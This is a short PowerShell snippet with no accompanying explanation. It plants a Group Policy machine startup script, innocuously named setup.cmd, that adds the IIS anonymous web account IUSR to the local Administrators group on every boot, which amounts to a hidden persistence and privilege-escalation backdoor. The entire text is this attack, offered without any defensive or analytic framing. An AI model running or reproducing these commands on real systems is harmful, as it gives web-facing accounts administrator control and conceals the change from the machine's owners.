New-Item C:\Windows\System32\GroupPolicy\Machine\Scripts -ItemType Directory -Force | Out-Null
Set-Content C:\tools\setup.cmd 'net localgroup Administrators IUSR /add'
Set-Content C:\Windows\System32\GroupPolicy\Machine\Scripts\scripts.ini "[Startup]`r`n0CmdLine=C:\tools\setup.cmd`r`n0Parameters="
